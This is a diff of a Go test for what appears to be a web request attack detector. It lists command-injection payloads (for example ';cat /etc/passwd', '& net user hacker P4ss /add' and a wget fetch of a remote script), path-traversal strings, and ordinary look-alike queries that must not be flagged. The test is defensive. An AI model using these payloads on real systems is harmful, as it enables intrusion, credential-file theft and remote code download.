@@ -12,7 +12,9 @@ func TestCheck(t *testing.T) {
 		"127.0.0.1 && whoami": CommandInjection, "\nid": CommandInjection, ";cat /etc/passwd": CommandInjection,
 		"| type c:\\boot.ini": CommandInjection, "& net user hacker P4ss /add": CommandInjection,
 		";cat${IFS}/etc/passwd": CommandInjection, "ping -i 30 127.0.0.1": CommandInjection,
-		"ping -n 10 localhost": CommandInjection, "|/usr/bin/id": CommandInjection,
+		"ping -n 10 localhost": CommandInjection, "whoami": CommandInjection, "ipconfig": CommandInjection,
+		"ls -la": CommandInjection, "cat /etc/passwd": CommandInjection, "wget http://198.51.100.7/x.sh": CommandInjection,
+		"cmd /c dir": CommandInjection, "uname -a": CommandInjection, "|/usr/bin/id": CommandInjection,
 		"/....//....//web-inf/web.xml": PathTraversal, "....//....//etc/passwd": PathTraversal,
 		"..\\..\\windows\\win.ini": PathTraversal, "..;/..;/etc/passwd": PathTraversal, ".../.../etc": PathTraversal,
 		"..2f..2f..2fetc2fpasswd": PathTraversal, "\u2025\uff0f\u2025\uff0fetc\uff0fpasswd": PathTraversal,
@@ -47,7 +49,8 @@ func TestCheck(t *testing.T) {
 		"-", "--", "---", "#", "#1", "O'Brien", ":)", ":-(", "()", "*****", "...", "&#39;", "Tom &#38; Jerry", "&#601;",
 		"select your region", "order by date", "Please select one option", "1 < 2", "a=b", "(hasil) pemilu", "x > y",
 		"or something like that", "and 5 more", "or 2", "and/or", "And then (finally) it ended",
-		"order by nama, umur", "select 2 kandidat", "Union Jack", "order by harga desc", "order by 2 pm"}
+		"order by nama, umur", "select 2 kandidat", "Union Jack", "order by harga desc", "order by 2 pm",
+		"ls of cards", "whoami quiz", "wget alternative for windows", "python", "echo", "id", "cat lucu", "type A/B"}
 	for _, v := range ordinary {
 		if got := Check("/cari?q="+url.QueryEscape(v), nil); len(got) > 0 {
 			t.Errorf("%q: found %v in an ordinary value", v, got)
